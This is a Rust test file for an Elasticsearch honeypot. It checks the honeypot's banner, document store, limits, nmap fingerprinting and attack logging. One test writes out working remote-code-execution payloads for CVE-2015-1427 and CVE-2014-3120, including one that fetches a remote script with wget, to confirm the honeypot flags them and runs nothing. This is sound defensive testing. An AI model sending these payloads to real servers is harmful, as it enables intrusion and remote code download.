//! The Elasticsearch honeypot driven through the real binary: curl, the
//! official Python client (elasticsearch 7.17, which insists on the
//! `X-elastic-product` header from a 7.14+ server), nmap -sV on the default
//! version, and the old script RCE payloads.

mod common;

use std::process::Command;

use common::{Sensor, of_kind, read_events};
use serde_json::Value;

/// A current 7.x (X-elastic-product first); the default is 7.10.2.
const SEVEN_SEVENTEEN: &str = "[services.elasticsearch]\nversion = \"7.17.9\"\n";

fn es_sensor(config: &str) -> Sensor {
    Sensor::start("elasticsearch", config, tempfile::tempdir().unwrap())
}

fn curl(args: &[&str]) -> String {
    let out = Command::new(mirage_testkit::require_tool("curl"))
        .args(["-s", "-S", "--max-time", "10"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "curl {args:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// curl: the banner as Elasticsearch prints it, index and document writes
/// into the store, `_cat/indices` (text and JSON), `_cluster/health`,
/// `_nodes`, `_search`, and Elasticsearch's error shapes.
#[test]
fn curl_banner_store_and_cat() {
    let mut s = es_sensor(SEVEN_SEVENTEEN);
    let base = format!("http://127.0.0.1:{}", s.port());
    let head = curl(&["-i", &format!("{base}/")]);
    assert!(
        head.starts_with("HTTP/1.1 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: "),
        "{head}"
    );
    let body = &head[head.find("\r\n\r\n").unwrap() + 4..];
    assert!(body.starts_with("{\n  \"name\" : \"es01\",\n"));
    let v: Value = serde_json::from_str(body).unwrap();
    assert_eq!(v["version"]["number"], "7.17.9");
    assert_eq!(v["version"]["build_flavor"], "default");
    assert_eq!(v["version"]["minimum_wire_compatibility_version"], "6.8.0");
    assert_eq!(v["tagline"], "You Know, for Search");
    assert_eq!(v["cluster_uuid"].as_str().unwrap().len(), 22);

    let put = curl(&["-X", "PUT", &format!("{base}/customers")]);
    assert_eq!(
        put,
        r#"{"acknowledged":true,"shards_acknowledged":true,"index":"customers"}"#
    );
    let doc = curl(&[
        "-X",
        "PUT",
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"name":"Alice","card":"4111"}"#,
        &format!("{base}/customers/_doc/1"),
    ]);
    let d: Value = serde_json::from_str(&doc).unwrap();
    assert_eq!(d["result"], "created");
    let cat = curl(&[&format!("{base}/_cat/indices?v")]);
    let mut lines = cat.lines();
    assert!(lines.next().unwrap().starts_with("health status index"));
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("yellow open   customers ")
    );
    let cat: Value =
        serde_json::from_str(&curl(&[&format!("{base}/_cat/indices?format=json")])).unwrap();
    assert_eq!(cat[0]["index"], "customers");
    assert_eq!(cat[0]["docs.count"], "1");
    let health: Value = serde_json::from_str(&curl(&[&format!("{base}/_cluster/health")])).unwrap();
    assert_eq!(health["cluster_name"], "elasticsearch");
    assert_eq!(health["status"], "yellow");
    let nodes: Value = serde_json::from_str(&curl(&[&format!("{base}/_nodes")])).unwrap();
    assert_eq!(nodes["_nodes"]["total"], 1);
    let search: Value =
        serde_json::from_str(&curl(&[&format!("{base}/customers/_search")])).unwrap();
    assert_eq!(search["hits"]["total"]["value"], 1);
    assert_eq!(search["hits"]["hits"][0]["_source"]["name"], "Alice");
    let missing = curl(&["-i", &format!("{base}/nothing/_search")]);
    assert!(missing.starts_with("HTTP/1.1 404 Not Found\r\n"));
    assert!(
        missing
            .contains(r#""type":"index_not_found_exception","reason":"no such index [nothing]""#)
    );
    let del = curl(&["-X", "DELETE", &format!("{base}/customers")]);
    assert_eq!(del, r#"{"acknowledged":true}"#);
    s.stop();
    let events = read_events(&s.event_dir());
    let cmds = of_kind(&events, "command");
    let put_doc = cmds
        .iter()
        .find(|e| e["args"][0] == "/customers/_doc/1")
        .unwrap();
    assert_eq!(put_doc["command"], "put");
    assert_eq!(
        put_doc["details"]["body"],
        r#"{"name":"Alice","card":"4111"}"#
    );
    assert!(cmds.iter().all(|e| e["service"] == "elasticsearch"));
}

/// The store's caps: past `max_documents`, writes are refused the way a
/// loaded cluster refuses them.
#[test]
fn store_is_bounded() {
    let s = es_sensor("[services.elasticsearch]\nmax_documents = 3\nmax_indices = 2\n");
    let base = format!("http://127.0.0.1:{}", s.port());
    for i in 0..3 {
        let r = curl(&[
            "-X",
            "POST",
            "-H",
            "Content-Type: application/json",
            "-d",
            "{\"n\":1}",
            &format!("{base}/logs/_doc"),
        ]);
        assert!(r.contains("\"result\":\"created\""), "{i}: {r}");
    }
    let r = curl(&[
        "-i",
        "-X",
        "POST",
        "-H",
        "Content-Type: application/json",
        "-d",
        "{\"n\":1}",
        &format!("{base}/logs/_doc"),
    ]);
    assert!(r.starts_with("HTTP/1.1 429 Too Many Requests\r\n"), "{r}");
    curl(&["-X", "PUT", &format!("{base}/b")]);
    let r = curl(&["-X", "PUT", &format!("{base}/c")]);
    assert!(r.contains("validation_exception"), "{r}");
    let r = curl(&["-X", "PUT", &format!("{base}/BAD")]);
    assert!(r.contains("invalid_index_name_exception"), "{r}");
}

/// The official Python client 7.17: `info()` (its product check passes)
/// and `index()` then `search()`.
#[test]
fn python_client_info_and_search() {
    let py = mirage_testkit::venv_python();
    let mut s = es_sensor(SEVEN_SEVENTEEN);
    let script = format!(
        r#"
import json
from elasticsearch import Elasticsearch
es = Elasticsearch(["http://127.0.0.1:{port}"])
info = es.info()
es.index(index="orders", id="7", body={{"sku": "A-1", "qty": 2}})
res = es.search(index="orders", body={{"query": {{"match_all": {{}}}}}})
print(json.dumps({{"version": info["version"]["number"], "tagline": info["tagline"], "hits": res["hits"]["total"]["value"], "src": res["hits"]["hits"][0]["_source"]}}))
"#,
        port = s.port()
    );
    let out = Command::new(py).arg("-c").arg(&script).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["version"], "7.17.9");
    assert_eq!(v["tagline"], "You Know, for Search");
    assert_eq!(v["hits"], 1);
    assert_eq!(v["src"]["sku"], "A-1");
    s.stop();
    let events = read_events(&s.event_dir());
    let cmds = of_kind(&events, "command");
    assert!(
        cmds.iter()
            .any(|e| e["args"][0] == "/orders/_search" && e["command"] == "post")
    );
    let ua = cmds[0]["details"]["headers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h[0].as_str().unwrap().eq_ignore_ascii_case("user-agent"))
        .cloned()
        .unwrap();
    assert!(ua[1].as_str().unwrap().contains("elasticsearch-py"), "{ua}");
}

/// CVE-2015-1427 (Groovy sandbox escape) and CVE-2014-3120 (MVEL
/// `script_fields`) payloads, as exploit kits send them, are `attack`
/// events naming the CVE; the search is answered, nothing runs.
#[test]
fn script_rce_payloads_are_attacks() {
    let mut s = es_sensor("");
    let base = format!("http://127.0.0.1:{}", s.port());
    let groovy = r#"{"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"wget http://198.51.100.7/x.sh -O /tmp/x.sh\").getText()"}}}"#;
    let r = curl(&[
        "-X",
        "POST",
        "-d",
        groovy,
        &format!("{base}/_search?pretty"),
    ]);
    assert!(r.contains("\"hits\""), "{r}");
    let mvel = r#"{"size":1,"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"command":{"script":"import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}"#;
    curl(&["-X", "POST", "-d", mvel, &format!("{base}/_search")]);
    s.stop();
    let events = read_events(&s.event_dir());
    let attacks = of_kind(&events, "attack");
    let cves: Vec<&str> = attacks
        .iter()
        .filter(|a| a["technique"] == "elasticsearch.script_rce")
        .map(|a| a["evidence"]["cve"].as_str().unwrap())
        .collect();
    assert_eq!(cves, ["CVE-2015-1427", "CVE-2014-3120"]);
    let tagged = of_kind(&events, "command")
        .into_iter()
        .filter(|e| {
            e["tags"]
                .as_array()
                .is_some_and(|t| t.contains(&"elasticsearch.script_rce".into()))
        })
        .count();
    assert_eq!(tagged, 2);
}

/// nmap -sV: its signature (`Elasticsearch REST API`) expects the
/// content-type header right after the status line, as Elasticsearch
/// before 7.14 sends it, so the default 7.10.2 honeypot is named with its
/// version, on a random port and on the standard 9200. From 7.14,
/// `X-elastic-product` comes first (as on a real 7.17 node) and nmap
/// reports an unrecognised HTTP service; the scan is recorded either way.
#[test]
fn nmap_identifies_elasticsearch() {
    let line = common::nmap_standard_port("elasticsearch", 9200, "");
    assert!(line.contains("Elasticsearch REST API 7.10.2"), "{line}");
    let mut s = es_sensor("");
    let line = common::nmap_port_line(&common::nmap_sv(None, s.port(), &[]), s.port());
    assert!(line.contains("Elasticsearch REST API 7.10.2"), "{line}");
    assert!(line.contains("Lucene 8.7.0"), "{line}");
    s.stop();
    let events = read_events(&s.event_dir());
    let cmds = of_kind(&events, "command");
    assert!(
        cmds.iter().any(|e| e["raw"] == "GET / HTTP/1.0"),
        "nmap's GetRequest probe"
    );
}
